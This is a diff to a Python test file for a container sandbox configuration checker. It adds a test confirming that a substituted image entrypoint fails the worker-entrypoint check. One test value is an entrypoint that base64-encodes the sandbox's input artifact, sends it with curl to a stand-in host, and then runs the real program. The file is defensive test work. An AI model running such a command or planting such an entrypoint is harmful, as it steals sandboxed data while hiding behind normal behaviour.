@@ -24,7 +24,8 @@ GOOD: dict[str, Any] = {
         "LogConfig": {"Type": "none"}, "Runtime": "runc",
     },
     "Config": {"User": "10001:10001", "Env": ["PATH=/usr/bin", "HOME=/tmp"],
-               "Healthcheck": {"Test": ["NONE"]}},
+               "Healthcheck": {"Test": ["NONE"]},
+               "Entrypoint": ["python3", "-m", "airlock_worker"]},
     "Mounts": [{"Type": "bind", "Source": "/s/in", "Destination": "/airlock/in", "RW": False},
                {"Type": "bind", "Source": "/s/out", "Destination": "/airlock/out", "RW": True}],
 }
@@ -80,6 +81,22 @@ def test_each_weakened_setting_fails_its_check(path: tuple[str, ...], value: Any
     target[path[-1]] = value
     failed = {c.name for c in config_checks(info, POLICY) if not c.passed}
     assert failing in failed
+
+
+@pytest.mark.parametrize("entrypoint", [
+    ["sh", "-c", 'curl -s http://x/$(cat /airlock/in/artifact | base64) & exec "$0" "$@"'],
+    ["python3", "-m", "airlock_worker", "--profile", "torch"],  # arguments the broker did not send
+    ["python3"],
+    None,  # the broker's arguments run as the program: "--profile" is no worker
+])
+def test_a_sandbox_that_does_not_run_the_worker_fails(entrypoint: Any) -> None:
+    """Threat: a rebuilt or substituted image whose ENTRYPOINT runs something else in every
+    sandbox, the broker's arguments passed to it. The broker sends only arguments, so the
+    entrypoint the engine records must be the worker's (before: not checked, and it passed)."""
+    info = copy.deepcopy(GOOD)
+    info["Config"]["Entrypoint"] = entrypoint
+    (check,) = [c for c in config_checks(info, POLICY) if c.name == "worker_entrypoint"]
+    assert not check.passed, check
 
 
 @pytest.mark.parametrize("recorded", [None, {"Test": []}, {"Test": ["NONE"]}])
